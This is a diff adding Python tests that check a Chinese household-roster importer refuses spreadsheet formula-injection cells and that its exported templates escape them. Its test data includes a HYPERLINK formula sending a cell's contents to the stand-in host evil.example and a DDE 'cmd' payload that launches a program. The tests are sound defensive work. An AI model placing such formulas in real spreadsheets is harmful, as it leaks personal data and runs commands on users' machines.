@@ -190,3 +190,58 @@ def test_a_device_receives_the_persons_who_left(ctx, make_device, tmp_path):
     device.sync()
     by_name = {p.name: p for p in device.store.load_all(Person)}
     assert by_name["王二"].left_on == date(2025, 1, 1) and by_name["王一"].left_on is None
+
+
+LINK = '=HYPERLINK("http://evil.example/?d="&C5,"点击查看详情")'
+
+
+def test_a_cell_a_spreadsheet_would_run_is_refused_with_its_row_and_column(ctx, tmp_path):
+    def row(key: str, address: str, name: str, phone: str = "") -> tuple[str, ...]:
+        return (key, "330702102201", address, phone, "低保", "", "", name, "", "", "", "", "")
+
+    path = write_csv(
+        tmp_path / "hostile.csv",
+        [
+            row("H1", "甲村1号", LINK),
+            row("H2", "@SUM(1+1)*cmd|' /C calc'!A0", "李四"),
+            row("H3", "丙村3号", "王五", phone="+86 139 0579 1234"),  # a phone, not a formula
+            row("+H4", "丁村4号", "赵六"),
+            row("H5", "戊村5号", "钱七", phone="-"),  # a dash is not a formula: a bad phone
+        ],
+    )
+    with pytest.raises(roster.RosterInvalid) as caught:
+        roster.import_roster(ctx, path)
+    reasons = dict(caught.value.problems)
+    assert sorted(reasons) == [2, 3, 5, 6]
+    assert "「姓名」" in reasons[2] and "公式" in reasons[2]
+    assert "「家庭住址」" in reasons[3] and "公式" in reasons[3]
+    assert "「户编号」" in reasons[5] and "公式" in reasons[5]
+    assert "公式" not in reasons[6] and "电话" in reasons[6]
+    assert records(ctx, "household") == []
+
+
+def test_a_formula_typed_into_an_xlsx_roster_is_refused(ctx, tmp_path):
+    from openpyxl import Workbook
+
+    book = Workbook()
+    sheet = book.active
+    sheet.append(list(roster.COLUMNS))
+    sheet.append(["H1", "330702102201", "甲村1号", "", "低保", "", "", "张三", "", "", "", "", ""])
+    sheet.append(["H2", "330702102201", "乙村2号", "", "低保", "", "", "李四", "", "", "", "", ""])
+    sheet["H3"].value = LINK
+    sheet["H3"].data_type = "s"  # stored as text, as a register exported by another system
+    book.save(tmp_path / "hostile.xlsx")
+    with pytest.raises(roster.RosterInvalid) as caught:
+        roster.import_roster(ctx, tmp_path / "hostile.xlsx")
+    assert [row for row, _ in caught.value.problems] == [3]
+
+
+def test_the_templates_are_written_with_no_cell_that_runs(tmp_path, monkeypatch):
+    hostile = (("H1", "330702102201", LINK, *roster.EXAMPLE_ROWS[0][3:]),)
+    monkeypatch.setattr(roster, "EXAMPLE_ROWS", hostile)
+    csv_path, xlsx_path = roster.write_templates(tmp_path)
+    with open(csv_path, encoding="utf-8-sig") as fh:
+        rows = list(csv.reader(fh))
+    assert rows[1][2] == "'" + LINK
+    sheet = load_workbook(xlsx_path).worksheets[0]
+    assert (sheet["C2"].value, sheet["C2"].data_type, sheet["C2"].quotePrefix) == (LINK, "s", True)
